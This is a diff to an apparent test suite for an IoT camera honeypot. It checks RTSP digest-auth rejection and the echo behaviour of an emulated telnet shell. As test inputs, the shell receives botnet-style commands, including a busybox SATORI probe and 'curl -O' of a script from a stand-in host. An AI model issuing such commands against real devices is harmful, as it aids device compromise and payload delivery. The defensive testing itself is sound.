@@ -113,7 +113,7 @@ describe('camera protocols', () => {
     const c = new RawClient(ip, hp.ports.rtsp);
     await c.ready;
     c.send(
-      'DESCRIBE rtsp://127.0.0.1/ch0 RTSP/1.0\r\nCSeq: 7\r\nAuthorization: Digest username="admin", realm="IPCAM", nonce="1", uri="rtsp://127.0.0.1/ch0", response="00"\r\n\r\n',
+      'DESCRIBE rtsp://127.0.0.1/11 RTSP/1.0\r\nCSeq: 7\r\nAuthorization: Digest username="admin", realm="IPCAM", nonce="1", uri="rtsp://127.0.0.1/11", response="00"\r\n\r\n',
     );
     await c.waitFor(/RTSP\/1\.0 401 Unauthorized\r\nCSeq: 7/);
     const head = 'OPTIONS rtsp://127.0.0.1/ RTSP/1.0\r\nCSeq: 8\r\n';
@@ -143,7 +143,10 @@ describe('camera protocols', () => {
       const out = await c.waitFor(/# $/, 5000, mark);
       return out.slice(0, out.lastIndexOf('['));
     };
-    expect(await ask('/bin/busybox SATORI')).toBe('SATORI: applet not found\r\n');
+    // The server said WILL ECHO: the typed command comes back before its output.
+    expect(await ask('/bin/busybox SATORI')).toBe(
+      '/bin/busybox SATORI\r\nSATORI: applet not found\r\n',
+    );
     expect(await ask('cat /proc/mounts')).toContain('/dev/root / squashfs');
     expect(await ask('uname -a')).toContain('armv5tejl');
     expect(await ask('curl -O http://203.0.113.9/x.sh')).toContain('download timed out');
